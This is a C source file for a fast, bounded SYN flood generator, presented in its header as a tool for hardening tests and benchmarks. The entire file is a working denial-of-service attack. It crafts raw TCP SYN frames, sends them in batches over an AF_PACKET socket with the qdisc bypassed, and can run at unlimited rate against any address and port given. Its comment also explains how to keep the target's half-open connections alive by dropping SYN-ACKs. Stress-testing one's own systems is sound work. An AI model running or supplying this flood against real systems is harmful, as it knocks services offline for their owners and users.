/*
 * A bounded SYN flood for hardening tests and benchmarks, cheap enough that
 * its own cost does not decide the result: frames are built once from a
 * template, patched in place (source port, ISN, IP id, checksums updated
 * incrementally) and handed to an AF_PACKET socket 64 at a time with
 * sendmmsg(2), bypassing the qdisc. Each SYN carries MSS 1460, SACK-permitted,
 * timestamps and window scale 7, from a random port of SPORT_LO..SPORT_HI of
 * one source address (the target's SYN-ACKs must reach a known neighbour; drop
 * them there with iptables so the target's half-open connections stay).
 *
 * Stops after COUNT SYNs, after SECONDS, or when STOP_FILE exists. RATE is
 * SYNs per second (0: as fast as the socket takes them). Prints `FLOODING`
 * once started and, at the end, `sent N seconds S`.
 *
 * Usage: syn_flood IFACE DST_MAC SRC_IP DST_IP DST_PORT COUNT RATE SECONDS STOP_FILE [SPORT_LO SPORT_HI]
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define FRAME_LEN (14 + 20 + 40)

static uint64_t rng_state = 0x9e3779b97f4a7c15ull;

/* xorshift64*: the flood needs spread, not secrecy. */
static uint32_t rnd(void) {
  rng_state ^= rng_state >> 12;
  rng_state ^= rng_state << 25;
  rng_state ^= rng_state >> 27;
  return (uint32_t)((rng_state * 0x2545f4914f6cdd1dull) >> 32);
}

static double now_s(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static uint32_t sum16(const uint8_t *p, size_t n, uint32_t s) {
  for (size_t i = 0; i + 1 < n; i += 2) s += (uint32_t)(p[i] << 8 | p[i + 1]);
  if (n & 1) s += (uint32_t)p[n - 1] << 8;
  return s;
}

static uint16_t fold(uint32_t s) {
  while (s >> 16) s = (s & 0xffff) + (s >> 16);
  return (uint16_t)~s;
}

static int parse_mac(const char *s, uint8_t *out) {
  unsigned v[6];
  if (sscanf(s, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6) return -1;
  for (int i = 0; i < 6; i++) out[i] = (uint8_t)v[i];
  return 0;
}

static void put16(uint8_t *p, uint16_t v) {
  p[0] = (uint8_t)(v >> 8);
  p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v) {
  p[0] = (uint8_t)(v >> 24);
  p[1] = (uint8_t)(v >> 16);
  p[2] = (uint8_t)(v >> 8);
  p[3] = (uint8_t)v;
}

int main(int argc, char **argv) {
  if (argc != 10 && argc != 12) {
    fprintf(stderr,
            "usage: %s IFACE DST_MAC SRC_IP DST_IP DST_PORT COUNT RATE SECONDS STOP_FILE [SPORT_LO SPORT_HI]\n",
            argv[0]);
    return 2;
  }
  const char *iface = argv[1], *stop = argv[9];
  uint8_t dmac[6], smac[6];
  struct in_addr sip, dip;
  if (parse_mac(argv[2], dmac) || inet_pton(AF_INET, argv[3], &sip) != 1 || inet_pton(AF_INET, argv[4], &dip) != 1) {
    fprintf(stderr, "syn_flood: bad DST_MAC, SRC_IP or DST_IP\n");
    return 2;
  }
  unsigned dport = (unsigned)atoi(argv[5]);
  uint64_t count = strtoull(argv[6], NULL, 10);
  double rate = atof(argv[7]), seconds = atof(argv[8]);
  unsigned lo = argc == 12 ? (unsigned)atoi(argv[10]) : 20000, hi = argc == 12 ? (unsigned)atoi(argv[11]) : 29999;
  if (dport == 0 || dport > 65535 || lo == 0 || hi > 65535 || lo > hi || rate < 0 || seconds <= 0) {
    fprintf(stderr, "syn_flood: bad DST_PORT, RATE, SECONDS or port range\n");
    return 2;
  }
  char path[128];
  snprintf(path, sizeof path, "/sys/class/net/%s/address", iface);
  FILE *f = fopen(path, "r");
  char macs[32] = {0};
  if (f == NULL || fgets(macs, sizeof macs, f) == NULL || parse_mac(macs, smac)) {
    fprintf(stderr, "syn_flood: cannot read the MAC address of %s\n", iface);
    return 2;
  }
  fclose(f);
  int s = socket(AF_PACKET, SOCK_RAW, 0);
  if (s < 0) {
    perror("syn_flood: socket(AF_PACKET)");
    return 1;
  }
  int one = 1;
  setsockopt(s, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one); /* best effort: a cheaper path */
  int sndbuf = 4 << 20;
  setsockopt(s, SOL_SOCKET, SO_SNDBUF, &sndbuf, sizeof sndbuf);
  struct sockaddr_ll ll = {0};
  ll.sll_family = AF_PACKET;
  ll.sll_ifindex = (int)if_nametoindex(iface);
  if (ll.sll_ifindex == 0 || bind(s, (struct sockaddr *)&ll, sizeof ll) < 0) {
    perror("syn_flood: bind");
    return 1;
  }
  rng_state ^= ((uint64_t)getpid() << 32) ^ (uint64_t)(now_s() * 1e9);

  /* The template: Ethernet, IPv4 (20 bytes), TCP with 20 bytes of options. */
  static uint8_t frames[BATCH][FRAME_LEN];
  uint8_t t[FRAME_LEN] = {0};
  memcpy(t, dmac, 6);
  memcpy(t + 6, smac, 6);
  put16(t + 12, 0x0800);
  uint8_t *ip = t + 14, *tcp = ip + 20;
  ip[0] = 0x45;
  put16(ip + 2, 60);
  put16(ip + 6, 0x4000);
  ip[8] = 64;
  ip[9] = 6;
  memcpy(ip + 12, &sip, 4);
  memcpy(ip + 16, &dip, 4);
  put16(tcp + 2, (uint16_t)dport);
  tcp[12] = 10 << 4;
  tcp[13] = 0x02;
  put16(tcp + 14, 64240);
  static const uint8_t opts[20] = {2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7};
  memcpy(tcp + 20, opts, 20);
  /* Checksums of the fixed parts; per frame only the varying words are added. */
  uint32_t ip_base = sum16(ip, 20, 0);
  uint8_t pseudo[12];
  memcpy(pseudo, &sip, 4);
  memcpy(pseudo + 4, &dip, 4);
  pseudo[8] = 0;
  pseudo[9] = 6;
  put16(pseudo + 10, 40);
  uint32_t tcp_base = sum16(tcp, 40, sum16(pseudo, 12, 0));

  struct mmsghdr msgs[BATCH];
  struct iovec iov[BATCH];
  memset(msgs, 0, sizeof msgs);
  for (int i = 0; i < BATCH; i++) {
    memcpy(frames[i], t, FRAME_LEN);
    iov[i].iov_base = frames[i];
    iov[i].iov_len = FRAME_LEN;
    msgs[i].msg_hdr.msg_iov = &iov[i];
    msgs[i].msg_hdr.msg_iovlen = 1;
  }
  printf("FLOODING\n");
  fflush(stdout);

  uint64_t sent = 0;
  double start = now_s(), end = start + seconds, next_check = start;
  unsigned span = hi - lo + 1;
  struct stat st;
  while (sent < count) {
    double now = now_s();
    if (now >= end) break;
    if (now >= next_check) {
      if (stat(stop, &st) == 0) break;
      next_check = now + 0.01;
    }
    uint64_t n = count - sent < BATCH ? count - sent : BATCH;
    if (rate > 0) {
      /* Paced: no more than RATE * elapsed sent so far. */
      double allowed = rate * (now - start) - (double)sent;
      if (allowed < 1) {
        struct timespec nap = {0, 50000};
        nanosleep(&nap, NULL);
        continue;
      }
      if ((double)n > allowed) n = (uint64_t)allowed;
    }
    for (uint64_t i = 0; i < n; i++) {
      uint8_t *fip = frames[i] + 14, *ftcp = fip + 20;
      uint32_t r1 = rnd(), isn = rnd();
      uint16_t sport = (uint16_t)(lo + r1 % span), id = (uint16_t)(r1 >> 16);
      put16(fip + 4, id);
      put16(fip + 10, fold(ip_base + id));
      put16(ftcp, sport);
      put32(ftcp + 4, isn);
      put32(ftcp + 24 + 4, isn ^ (uint32_t)sent); /* TSval: any value */
      uint32_t ts = isn ^ (uint32_t)sent;
      uint32_t c = tcp_base + sport + (isn >> 16) + (isn & 0xffff) + (ts >> 16) + (ts & 0xffff);
      put16(ftcp + 16, fold(c));
    }
    int k = sendmmsg(s, msgs, (unsigned)n, 0);
    if (k < 0) {
      if (errno == ENOBUFS || errno == EAGAIN || errno == EINTR) continue;
      perror("syn_flood: sendmmsg");
      return 1;
    }
    sent += (uint64_t)k;
  }
  printf("sent %llu seconds %.3f\n", (unsigned long long)sent, now_s() - start);
  return 0;
}
